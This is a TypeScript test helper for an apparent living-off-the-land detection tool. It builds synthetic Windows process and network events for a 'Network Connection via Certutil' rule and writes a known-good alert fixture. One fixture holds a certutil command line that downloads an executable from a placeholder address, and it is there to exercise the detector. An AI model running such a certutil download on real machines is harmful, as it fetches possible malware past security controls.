import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { parseNdjson } from './run-cli.js';

/** A certutil download: process start then a connection to a public address ("Network Connection via Certutil"). */
export function certutilPair(entity: string, t0: string, t1: string): object[] {
  const base = { host: { name: 'WS01', os: { type: 'windows' } }, process: { entity_id: entity, name: 'certutil.exe', pid: 4242 } };
  return [
    { '@timestamp': t0, event: { category: ['process'], type: ['start'], action: 'start' }, ...base, process: { ...base.process, command_line: 'certutil.exe -urlcache -f http://203.0.113.9/a.exe a.exe' } },
    { '@timestamp': t1, event: { category: ['network'], type: ['start'], action: 'connection_attempted' }, ...base, destination: { ip: '8.8.4.4', port: 80 } },
  ];
}

export const CERTUTIL = 'Network Connection via Certutil';

export const ndjson = (docs: object[]) => docs.map((d) => JSON.stringify(d)).join('\n') + '\n';

export function tmpDir(): string {
  return fs.mkdtempSync(path.join(os.tmpdir(), 'lolhunt-e2e-'));
}

/** One certutil alert keyed `{good}`: hostile-input tests check that it survives beside them. */
export const GOOD = ndjson(certutilPair('{good}', '2024-05-14T08:00:00Z', '2024-05-14T08:00:01Z'));

/** A new folder holding good.ndjson (GOOD). */
export function withGood(): { dir: string; good: string } {
  const dir = tmpDir();
  const good = path.join(dir, 'good.ndjson');
  fs.writeFileSync(good, GOOD);
  return { dir, good };
}

/** The alerts of a run (NDJSON), with the good file's one among them. */
export function assertGoodAlert(stdout: string): void {
  const keys = parseNdjson(stdout).map((a) => (a.join_keys as string[])[0]);
  assert.ok(keys.includes('{good}'), `the good file's alert is missing from:\n${stdout}`);
}
